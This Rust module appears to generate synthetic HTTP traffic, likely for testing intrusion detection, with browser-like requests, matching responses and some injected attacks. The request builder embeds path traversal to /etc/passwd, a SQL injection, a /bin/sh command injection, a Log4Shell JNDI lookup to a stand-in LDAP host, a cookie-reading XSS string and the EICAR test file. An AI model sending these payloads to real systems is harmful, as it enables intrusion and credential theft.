//! HTTP/1.1 over TCP port 80: browser-, script- and API-client-like requests, server
//! responses with bodies that match their `Content-Type`, keep-alive with several
//! requests per connection, and the HTTP attacks of [`crate::attacks`].

use crate::attacks::{AttackKind, EICAR};
use crate::content;
use crate::flow::Side;
use crate::hosts::Os;
use crate::rng::Rng;
use crate::tcp_flow::{Close, TcpConn};

const USER_AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.144 Mobile Safari/537.36",
];

const TOOL_AGENTS: &[&str] = &[
    "curl/8.5.0",
    "Wget/1.21.4",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "okhttp/4.12.0",
];

const LANGUAGES: &[&str] = &[
    "en-US,en;q=0.9",
    "en-GB,en;q=0.8",
    "de-DE,de;q=0.9,en;q=0.7",
    "fr-FR,fr;q=0.9,en-US;q=0.6",
    "es-ES,es;q=0.9",
];

const PAGE_NAMES: &[&str] = &[
    "index", "about", "contact", "news", "products", "pricing", "blog", "help", "faq", "team",
    "careers", "events", "gallery", "terms", "privacy",
];

/// What a request asks for, which decides the response body.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Resource {
    Page,
    Style,
    Script,
    Api,
    Download,
    Text,
    Eicar,
}

impl Resource {
    fn content_type(self) -> &'static str {
        match self {
            Resource::Page => "text/html; charset=utf-8",
            Resource::Style => "text/css",
            Resource::Script => "application/javascript",
            Resource::Api => "application/json",
            Resource::Download | Resource::Eicar => "application/octet-stream",
            Resource::Text => "text/plain; charset=utf-8",
        }
    }

    fn accept(self) -> &'static str {
        match self {
            Resource::Page => {
                "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"
            }
            Resource::Style => "text/css,*/*;q=0.1",
            Resource::Script | Resource::Download | Resource::Text | Resource::Eicar => "*/*",
            Resource::Api => "application/json, text/plain, */*",
        }
    }

    /// A natural body length.
    fn body_len(self, rng: &mut Rng) -> usize {
        let (lo, hi) = match self {
            Resource::Page => (1_500, 120_000),
            Resource::Style => (800, 60_000),
            Resource::Script => (1_000, 200_000),
            Resource::Api => (60, 16_000),
            Resource::Download => (4_000, 500_000),
            Resource::Text => (100, 8_000),
            Resource::Eicar => return EICAR.len(),
        };
        rng.log_uniform_u64(lo, hi) as usize
    }
}

/// The body a request carries.
#[derive(Debug, Clone)]
enum ReqBody {
    /// `application/x-www-form-urlencoded`: fixed fields, padded by lengthening the last
    /// value.
    Form(String),
    Json(usize),
    Binary(usize),
}

impl ReqBody {
    fn content_type(&self) -> &'static str {
        match self {
            ReqBody::Form(_) => "application/x-www-form-urlencoded",
            ReqBody::Json(_) => "application/json",
            ReqBody::Binary(_) => "application/octet-stream",
        }
    }

    fn natural_len(&self) -> usize {
        match self {
            ReqBody::Form(f) => f.len(),
            ReqBody::Json(n) | ReqBody::Binary(n) => *n,
        }
    }

    fn min_len(&self) -> usize {
        match self {
            ReqBody::Form(f) => f.len(),
            ReqBody::Json(_) => 8,
            ReqBody::Binary(_) => 0,
        }
    }

    fn render(&self, rng: &mut Rng, len: usize) -> Vec<u8> {
        match self {
            ReqBody::Form(f) => {
                let mut b = f.clone().into_bytes();
                b.extend_from_slice(content::token(rng, len - f.len()).as_bytes());
                b
            }
            ReqBody::Json(_) => content::json(rng, len).expect("JSON body of at least 8 bytes"),
            ReqBody::Binary(_) => content::binary(rng, len),
        }
    }
}

/// An HTTP request, rendered at its natural length or padded to an exact one.
#[derive(Debug, Clone)]
pub(crate) struct Request {
    method: &'static str,
    target: String,
    /// Header lines other than Content-Type and Content-Length, in order.
    headers: Vec<(&'static str, String)>,
    body: Option<ReqBody>,
    resource: Resource,
    /// Index of the User-Agent header (lengthened for small paddings).
    ua: usize,
}

/// Digits of `n` in decimal.
fn digits(n: usize) -> usize {
    n.checked_ilog10().map_or(1, |d| d as usize + 1)
}

/// The body length `b` with `fixed + digits(b) + b == total`, if one exists.
fn solve_body(total: usize, fixed: usize) -> Option<usize> {
    (1..=20).find_map(|d| {
        let b = total.checked_sub(fixed + d)?;
        (digits(b) == d).then_some(b)
    })
}

impl Request {
    fn head(
        &self,
        extra_ua: &str,
        cookie_pad: usize,
        rng: &mut Rng,
        body: Option<usize>,
    ) -> Vec<u8> {
        let mut out = Vec::with_capacity(512);
        out.extend_from_slice(format!("{} {} HTTP/1.1\r\n", self.method, self.target).as_bytes());
        let mut have_cookie = false;
        for (i, (name, value)) in self.headers.iter().enumerate() {
            out.extend_from_slice(name.as_bytes());
            out.extend_from_slice(b": ");
            out.extend_from_slice(value.as_bytes());
            if i == self.ua {
                out.extend_from_slice(extra_ua.as_bytes());
            }
            if *name == "Cookie" {
                have_cookie = true;
                out.extend_from_slice(content::token(rng, cookie_pad).as_bytes());
            }
            out.extend_from_slice(b"\r\n");
        }
        if !have_cookie && cookie_pad > 0 {
            out.extend_from_slice(b"Cookie: sid=");
            out.extend_from_slice(content::token(rng, cookie_pad).as_bytes());
            out.extend_from_slice(b"\r\n");
        }
        if let (Some(b), Some(body)) = (body, &self.body) {
            out.extend_from_slice(format!("Content-Type: {}\r\n", body.content_type()).as_bytes());
            out.extend_from_slice(format!("Content-Length: {b}\r\n").as_bytes());
        }
        out.extend_from_slice(b"\r\n");
        out
    }

    /// The request at its natural length.
    pub(crate) fn natural(&self, rng: &mut Rng) -> Vec<u8> {
        let b = self.body.as_ref().map(ReqBody::natural_len);
        let mut out = self.head("", 0, rng, b);
        if let (Some(b), Some(body)) = (b, &self.body) {
            out.extend_from_slice(&body.render(rng, b));
        }
        out
    }

    /// The shortest this request can be rendered.
    pub(crate) fn min_len(&self, rng: &mut Rng) -> usize {
        match &self.body {
            None => self.natural(rng).len(),
            Some(body) => {
                let m = body.min_len();
                self.head("", 0, rng, Some(m)).len() + m
            }
        }
    }

    /// The request padded to exactly `len` bytes (at least [`Request::min_len`]).
    pub(crate) fn render(&self, rng: &mut Rng, len: usize) -> Vec<u8> {
        match &self.body {
            None => {
                let base = self.head("", 0, rng, None).len();
                let extra = len - base;
                let has_cookie = self.headers.iter().any(|(n, _)| *n == "Cookie");
                // A new `Cookie: sid=` header costs 14 bytes before its value.
                let out = if extra == 0 {
                    self.head("", 0, rng, None)
                } else if has_cookie {
                    self.head("", extra, rng, None)
                } else if extra >= 15 {
                    self.head("", extra - 14, rng, None)
                } else {
                    let more = content::token(rng, extra);
                    self.head(&more, 0, rng, None)
                };
                debug_assert_eq!(out.len(), len);
                out
            }
            Some(body) => {
                let mut ua_pad = String::new();
                loop {
                    let fixed = self.head(&ua_pad, 0, rng, Some(0)).len() - 1;
                    if let Some(b) = solve_body(len, fixed).filter(|&b| b >= body.min_len()) {
                        let mut out = self.head(&ua_pad, 0, rng, Some(b));
                        out.extend_from_slice(&body.render(rng, b));
                        debug_assert_eq!(out.len(), len);
                        return out;
                    }
                    ua_pad.push('x');
                }
            }
        }
    }

    fn wants_close(&self) -> bool {
        self.headers
            .iter()
            .any(|(n, v)| *n == "Connection" && v == "close")
    }
}

/// Builds a benign request (or, with `attack`, the attack's request) to `host`.
pub(crate) fn request(
    rng: &mut Rng,
    host: &str,
    client_os: Os,
    attack: Option<AttackKind>,
    last: bool,
) -> Request {
    let tool = rng.chance(0.12) && attack.is_none();
    let mut resource = *rng.pick(&[
        Resource::Page,
        Resource::Page,
        Resource::Style,
        Resource::Script,
        Resource::Script,
        Resource::Api,
        Resource::Api,
        Resource::Download,
        Resource::Text,
    ]);
    let mut method = "GET";
    let mut body = None;
    let mut target = match resource {
        Resource::Page => {
            let name = rng.pick(PAGE_NAMES);
            match rng.below(3) {
                0 => "/".to_string(),
                1 => format!("/{name}.html"),
                _ => format!("/{name}/{}", rng.range(1, 9999)),
            }
        }
        Resource::Style => format!(
            "/static/css/{}.{}.css",
            rng.pick(content::WORDS),
            content::hex(rng, 8)
        ),
        Resource::Script => format!(
            "/static/js/{}.{}.js",
            rng.pick(content::WORDS),
            content::hex(rng, 8)
        ),
        Resource::Api => format!(
            "/api/v{}/{}?page={}&limit={}",
            rng.range(1, 3),
            rng.pick(&["items", "users", "orders", "search", "feed", "stats"]),
            rng.range(1, 40),
            rng.pick(&[10, 20, 50, 100])
        ),
        Resource::Download => format!(
            "/downloads/{}-{}.{}.{}.bin",
            rng.pick(content::WORDS),
            rng.range(1, 9),
            rng.range(0, 20),
            rng.range(0, 9)
        ),
        Resource::Text | Resource::Eicar => "/robots.txt".to_string(),
    };
    if attack.is_none() && resource == Resource::Api && rng.chance(0.3) {
        method = "POST";
        body = Some(if rng.chance(0.7) {
            ReqBody::Json(rng.log_uniform_u64(40, 4000) as usize)
        } else {
            ReqBody::Binary(rng.log_uniform_u64(500, 60_000) as usize)
        });
    } else if attack.is_none() && resource == Resource::Page && rng.chance(0.1) {
        method = "POST";
        target = "/login".to_string();
        body = Some(ReqBody::Form(format!(
            "username={}&password={}&remember=on&csrf={}",
            rng.pick(&["alice", "bob", "carol", "dave", "erin"]),
            content::token(rng, 12),
            content::hex(rng, 32)
        )));
    }

    let mut log4shell = false;
    match attack {
        None => {}
        Some(AttackKind::PathTraversal) => {
            resource = Resource::Text;
            target = "/../../../../etc/passwd".to_string();
        }
        Some(AttackKind::SqlInjection) => {
            resource = Resource::Page;
            method = "POST";
            target = "/login".to_string();
            body = Some(ReqBody::Form(
                "username=admin' UNION SELECT username,password FROM users--&password=x".into(),
            ));
        }
        Some(AttackKind::CommandInjection) => {
            resource = Resource::Text;
            method = "POST";
            target = "/cgi-bin/ping.cgi".to_string();
            body = Some(ReqBody::Form(
                "host=192.0.2.1;/bin/sh -c 'id;uname -a'&count=1".into(),
            ));
        }
        Some(AttackKind::Log4Shell) => {
            log4shell = true;
        }
        Some(AttackKind::Xss) => {
            resource = Resource::Page;
            target = "/search?q=<script>alert(document.cookie)</script>".to_string();
        }
        Some(AttackKind::Eicar) => {
            resource = Resource::Eicar;
            target = "/downloads/eicar.com.txt".to_string();
        }
        Some(AttackKind::BadDomain | AttackKind::BadSni) => {
            unreachable!("not an HTTP attack")
        }
    }

    let jndi = "${jndi:ldap://203.0.113.66:1389/Exploit}";
    let ua = if log4shell {
        jndi.to_string()
    } else if tool {
        rng.pick(TOOL_AGENTS).to_string()
    } else {
        let pool = match client_os {
            Os::Windows => &USER_AGENTS[..2],
            Os::Mac => &USER_AGENTS[2..3],
            Os::Linux => &USER_AGENTS[3..],
        };
        rng.pick(pool).to_string()
    };
    let mut headers: Vec<(&'static str, String)> = vec![("Host", host.to_string())];
    let ua_index = headers.len();
    headers.push(("User-Agent", ua));
    if tool {
        headers.push(("Accept", "*/*".into()));
    } else {
        headers.push(("Accept", resource.accept().into()));
        headers.push(("Accept-Language", rng.pick(LANGUAGES).to_string()));
        headers.push(("Accept-Encoding", "gzip, deflate".into()));
        if log4shell {
            headers.push(("X-Api-Version", jndi.into()));
        }
        if resource != Resource::Page || rng.chance(0.4) {
            headers.push(("Referer", format!("http://{host}/{}", rng.pick(PAGE_NAMES))));
        }
        if rng.chance(0.4) {
            headers.push((
                "Cookie",
                format!(
                    "sid={}; theme={}",
                    content::hex(rng, 24),
                    rng.pick(&["light", "dark"])
                ),
            ));
        }
        if resource == Resource::Page {
            headers.push(("Upgrade-Insecure-Requests", "1".into()));
        }
    }
    let close = last && rng.chance(0.3);
    headers.push((
        "Connection",
        if close { "close" } else { "keep-alive" }.into(),
    ));
    Request {
        method,
        target,
        headers,
        body,
        resource,
        ua: ua_index,
    }
}

/// What a response body holds.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Status {
    Ok,
    NotFound,
    Moved,
}

/// An HTTP response, rendered at its natural length or padded to an exact one.
#[derive(Debug, Clone)]
pub(crate) struct Response {
    status: Status,
    resource: Resource,
    /// Header lines other than Content-Type and Content-Length, in order.
    headers: Vec<(&'static str, String)>,
    body_len: usize,
    title: String,
}

impl Response {
    fn body_resource(&self) -> Resource {
        match self.status {
            Status::Ok => self.resource,
            Status::NotFound | Status::Moved => Resource::Page,
        }
    }

    fn head(&self, content_type: &str, body_len: usize) -> Vec<u8> {
        let (code, reason) = match self.status {
            Status::Ok => (200, "OK"),
            Status::NotFound => (404, "Not Found"),
            Status::Moved => (301, "Moved Permanently"),
        };
        let mut out = Vec::with_capacity(300);
        out.extend_from_slice(format!("HTTP/1.1 {code} {reason}\r\n").as_bytes());
        for (i, (name, value)) in self.headers.iter().enumerate() {
            if i == 2 {
                out.extend_from_slice(format!("Content-Type: {content_type}\r\n").as_bytes());
                out.extend_from_slice(format!("Content-Length: {body_len}\r\n").as_bytes());
            }
            out.extend_from_slice(format!("{name}: {value}\r\n").as_bytes());
        }
        out.extend_from_slice(b"\r\n");
        out
    }

    fn body(&self, rng: &mut Rng, kind: Resource, len: usize) -> Option<Vec<u8>> {
        Some(match kind {
            Resource::Page => content::html(rng, len, &self.title)?,
            Resource::Api => content::json(rng, len)?,
            Resource::Style => content::css(rng, len),
            Resource::Script => content::javascript(rng, len),
            Resource::Download => content::binary(rng, len),
            Resource::Text => content::text(rng, len),
            Resource::Eicar => {
                if len < EICAR.len() {
                    return None;
                }
                let mut b = EICAR.to_vec();
                b.resize(len, b' ');
                if len > EICAR.len() {
                    b[len - 1] = b'\n';
                }
                b
            }
        })
    }

    /// The response at its natural length.
    pub(crate) fn natural(&self, rng: &mut Rng) -> Vec<u8> {
        let kind = self.body_resource();
        let (kind, body) = match self.body(rng, kind, self.body_len) {
            Some(b) => (kind, b),
            None => (Resource::Text, content::text(rng, self.body_len)),
        };
        let mut out = self.head(kind.content_type(), body.len());
        out.extend_from_slice(&body);
        out
    }

    /// The shortest this response can be rendered.
    pub(crate) fn min_len(&self) -> usize {
        let kind = self.body_resource();
        if kind == Resource::Eicar {
            self.head(kind.content_type(), EICAR.len()).len() + EICAR.len()
        } else {
            self.head(Resource::Text.content_type(), 0).len()
        }
    }

    /// The response padded or cut to exactly `len` bytes (at least
    /// [`Response::min_len`]). A page or JSON body too short for its type becomes text.
    pub(crate) fn render(&self, rng: &mut Rng, len: usize) -> Vec<u8> {
        let preferred = self.body_resource();
        // The EICAR body must stay the EICAR file, never fall back to text.
        let kinds: &[Resource] = if preferred == Resource::Eicar {
            &[Resource::Eicar]
        } else {
            &[preferred, Resource::Text]
        };
        for &kind in kinds {
            let ct = kind.content_type();
            let fixed = self.head(ct, 0).len() - 1;
            if let Some(b) = solve_body(len, fixed) {
                if let Some(body) = self.body(rng, kind, b) {
                    let mut out = self.head(ct, b);
                    out.extend_from_slice(&body);
                    debug_assert_eq!(out.len(), len);
                    return out;
                }
            }
        }
        // On a digit boundary no body length fits: lengthen the Server header by one.
        let mut longer = self.clone();
        longer.headers[1].1.push(' ');
        longer.render(rng, len)
    }
}

/// The server's answer to `req`, dated `unix_secs`.
pub(crate) fn response(
    rng: &mut Rng,
    req: &Request,
    server_os: Os,
    unix_secs: u64,
    close: bool,
) -> Response {
    let status = if req.resource == Resource::Eicar {
        Status::Ok
    } else if req.target.contains("/../") {
        Status::NotFound
    } else {
        match rng.below(100) {
            0..4 => Status::NotFound,
            4..6 => Status::Moved,
            _ => Status::Ok,
        }
    };
    let server = match server_os {
        Os::Windows => "Microsoft-IIS/10.0",
        _ => rng.pick(&[
            "nginx/1.24.0",
            "Apache/2.4.58 (Ubuntu)",
            "nginx",
            "cloudflare",
        ]),
    };
    let mut headers: Vec<(&'static str, String)> = vec![
        ("Date", content::http_date(unix_secs)),
        ("Server", server.to_string()),
    ];
    match status {
        Status::Ok => {
            if matches!(
                req.resource,
                Resource::Style | Resource::Script | Resource::Download
            ) {
                headers.push((
                    "Cache-Control",
                    "public, max-age=31536000, immutable".into(),
                ));
                headers.push(("ETag", format!("\"{}\"", content::hex(rng, 16))));
                headers.push((
                    "Last-Modified",
                    content::http_date(unix_secs.saturating_sub(rng.range(3_600, 90 * 86_400))),
                ));
            } else if req.resource == Resource::Api {
                headers.push(("Cache-Control", "no-store".into()));
            } else {
                headers.push(("Cache-Control", "max-age=600".into()));
            }
        }
        Status::Moved => {
            headers.push((
                "Location",
                format!("https://{}{}", host_of(req), req.target),
            ));
        }
        Status::NotFound => {}
    }
    headers.push((
        "Connection",
        if close { "close" } else { "keep-alive" }.into(),
    ));
    let body_len = match status {
        Status::Ok => req.resource.body_len(rng),
        Status::NotFound | Status::Moved => rng.range(150, 600) as usize,
    };
    let title = match status {
        Status::Ok => format!("{} - {}", rng.pick(PAGE_NAMES), host_of(req)),
        Status::NotFound => "404 Not Found".to_string(),
        Status::Moved => "301 Moved Permanently".to_string(),
    };
    Response {
        status,
        resource: req.resource,
        headers,
        body_len,
        title,
    }
}

fn host_of(req: &Request) -> &str {
    &req.headers[0].1
}

/// Plays one HTTP connection on `conn` from `t0`: handshake, one or more request and
/// response exchanges, teardown. One of the requests carries `attack` when given.
pub(crate) fn run(
    conn: &mut TcpConn<'_>,
    t0: u64,
    host: &str,
    client_os: Os,
    server_os: Os,
    attack: Option<AttackKind>,
) {
    let requests = if conn.rng.chance(0.45) {
        1
    } else {
        conn.rng.range(2, 8) as usize
    };
    let attack_at = conn.rng.index(requests);
    let mut t = conn.handshake(t0) + conn.rng.range(5_000, 200_000);
    let mut server_closes = false;
    for i in 0..requests {
        let last = i + 1 == requests;
        let a = if i == attack_at { attack } else { None };
        let mut mrng = Rng::new(conn.rng.next_u64());
        let req = request(&mut mrng, host, client_os, a, last);
        let natural = req.natural(&mut mrng);
        let min = req.min_len(&mut mrng);
        let think = conn.rng.log_uniform_u64(200_000, 150_000_000);
        let slow = think > 40_000_000;
        let req2 = req.clone();
        let sent = conn.send_message(
            Side::Client,
            t,
            natural,
            min,
            move |n| req2.render(&mut mrng, n),
            true,
        );
        let arrive = conn.timing.react(Side::Server, sent.last_data);
        if slow {
            // The last request segment is not answered in time: the server's delayed ACK
            // fires before the response is ready.
            conn.ack(Side::Server, arrive + 40_000_000 - conn.timing.server_turn);
        }
        let t_resp = arrive + think;
        let close = req.wants_close();
        server_closes = close;
        let mut mrng = Rng::new(conn.rng.next_u64());
        let resp = response(&mut mrng, &req, server_os, t_resp / 1_000_000_000, close);
        let natural = resp.natural(&mut mrng);
        let min = resp.min_len();
        let sent = conn.send_message(
            Side::Server,
            t_resp,
            natural,
            min,
            move |n| resp.render(&mut mrng, n),
            false,
        );
        t = sent.end();
        if !last {
            t += conn.rng.log_uniform_u64(1_000_000, 2_000_000_000);
        } else if server_closes {
            t = sent.last_data + conn.rng.range(20_000, 300_000);
        } else {
            t += conn.rng.log_uniform_u64(50_000_000, 5_000_000_000);
        }
    }
    let how = match conn.rng.below(10) {
        0..6 => Close::Fin3,
        6..8 => Close::Fin4,
        _ => Close::Rst,
    };
    let closer = if server_closes {
        Side::Server
    } else {
        Side::Client
    };
    let how = if server_closes && how == Close::Rst {
        Close::Fin3
    } else {
        how
    };
    conn.close(closer, t, how);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn solve_body_handles_digit_boundaries() {
        assert_eq!(solve_body(110, 100), Some(9));
        assert_eq!(solve_body(111, 100), None);
        assert_eq!(solve_body(112, 100), Some(10));
        for total in 100..2000 {
            if let Some(b) = solve_body(total, 90) {
                assert_eq!(90 + digits(b) + b, total);
            }
        }
    }

    fn header_len(msg: &[u8]) -> usize {
        msg.windows(4).position(|w| w == b"\r\n\r\n").unwrap() + 4
    }

    fn content_length(msg: &[u8]) -> Option<usize> {
        let head = std::str::from_utf8(&msg[..header_len(msg)]).unwrap();
        head.lines()
            .find_map(|l| l.strip_prefix("Content-Length: "))
            .map(|v| v.trim().parse().unwrap())
    }

    #[test]
    fn requests_and_responses_render_at_exact_lengths() {
        let mut rng = Rng::new(5);
        for i in 0..300 {
            let attack = match i % 10 {
                0 => Some(AttackKind::SqlInjection),
                1 => Some(AttackKind::Log4Shell),
                2 => Some(AttackKind::Eicar),
                3 => Some(AttackKind::CommandInjection),
                _ => None,
            };
            let req = request(&mut rng, "www.example.com", Os::Linux, attack, i % 3 == 0);
            let natural = req.natural(&mut rng);
            assert!(natural.starts_with(b"GET ") || natural.starts_with(b"POST "));
            let min = req.min_len(&mut rng);
            assert!(min <= natural.len());
            for extra in [0, 1, 5, 13, 14, 15, 16, 90, 1000, 3000] {
                let len = natural.len().max(min) + extra;
                let r = req.render(&mut rng, len);
                assert_eq!(r.len(), len);
                let h = header_len(&r);
                assert_eq!(content_length(&r).unwrap_or(0), len - h);
                if let Some(a) = attack.filter(|a| a.info().direction == crate::Direction::ToServer)
                {
                    assert!(
                        r.windows(a.info().marker.len())
                            .any(|w| w == a.info().marker)
                    );
                }
            }
            let resp = response(&mut rng, &req, Os::Linux, 1_704_067_200, false);
            let natural = resp.natural(&mut rng);
            assert_eq!(
                content_length(&natural).unwrap(),
                natural.len() - header_len(&natural)
            );
            for len in [
                resp.min_len(),
                resp.min_len() + 1,
                natural.len(),
                natural.len() + 7,
                20_000,
            ] {
                if len < resp.min_len() {
                    continue;
                }
                let r = resp.render(&mut rng, len);
                assert_eq!(r.len(), len);
                assert_eq!(content_length(&r).unwrap(), len - header_len(&r));
                if attack == Some(AttackKind::Eicar) {
                    assert!(r.windows(EICAR.len()).any(|w| w == EICAR));
                }
            }
        }
    }
}
